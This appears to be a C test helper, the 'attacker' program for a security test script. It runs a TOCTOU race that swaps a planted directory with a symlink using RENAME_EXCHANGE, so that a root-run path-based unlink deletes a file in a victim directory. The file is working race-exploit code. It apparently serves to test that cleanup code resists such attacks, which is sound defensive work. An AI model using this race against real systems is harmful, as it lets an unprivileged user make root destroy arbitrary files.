/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker of tests/security-misc.sh: run as the user who owns a scratch
 * directory that root later removes, it plants DIR/a (a directory holding a
 * file named victim) and DIR/b (a link to VICTIM_DIR) in every directory
 * matching PREFIX* under PARENT, and swaps the two with RENAME_EXCHANGE in
 * a loop, so that a path-based unlink of DIR/a/victim by root lands on
 * VICTIM_DIR/victim. Each directory it could plant in is named in LOG. It
 * stops when the file STOP exists.
 *
 *   attack-swap PARENT PREFIX VICTIM_DIR STOP LOG
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* Put back what root removed: a directory holding "victim", and the link. */
static void plant(int dfd, const char *victim_dir)
{
	int fd;

	mkdirat(dfd, "a", 0755);
	fd = openat(dfd, "a/victim", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
	symlinkat(victim_dir, dfd, "b");
}

/* Swap a and b until root has removed the directory, for a second or two
 * at most (root may fail to remove it), or until STOP appears. */
static void attack(int dfd, const char *victim_dir, const char *stop)
{
	struct stat st;

	plant(dfd, victim_dir);
	for (unsigned long i = 0; i < 1000000; i++) {
		if (i % 4096 == 0 && (access(stop, F_OK) == 0 || fstat(dfd, &st) != 0 || st.st_nlink == 0))
			return;
		if (renameat2(dfd, "a", dfd, "b", RENAME_EXCHANGE) != 0)
			plant(dfd, victim_dir);
	}
}

int main(int argc, char **argv)
{
	FILE *log;

	if (argc != 6) {
		fprintf(stderr, "usage: attack-swap PARENT PREFIX VICTIM_DIR STOP LOG\n");
		return 2;
	}
	log = fopen(argv[5], "a");
	if (!log)
		return 2;
	setvbuf(log, NULL, _IONBF, 0);
	while (access(argv[4], F_OK) != 0) {
		DIR *d = opendir(argv[1]);
		struct dirent *e;

		while (d && (e = readdir(d))) {
			struct stat st;
			int dfd;

			if (strncmp(e->d_name, argv[2], strlen(argv[2])) != 0)
				continue;
			dfd = openat(dirfd(d), e->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
			if (dfd < 0)
				continue;
			/* A child per directory: the scan never stops watching. */
			if (fstatat(dfd, "b", &st, AT_SYMLINK_NOFOLLOW) != 0 && symlinkat(argv[3], dfd, "b") == 0 &&
			    fprintf(log, "%s\n", e->d_name) >= 0 && fork() == 0) {
				attack(dfd, argv[3], argv[4]);
				_exit(0);
			}
			close(dfd);
		}
		if (d)
			closedir(d);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		/* Root's directory lives for tens of milliseconds: no need to spin. */
		usleep(200);
	}
	while (wait(NULL) > 0)
		;
	return 0;
}
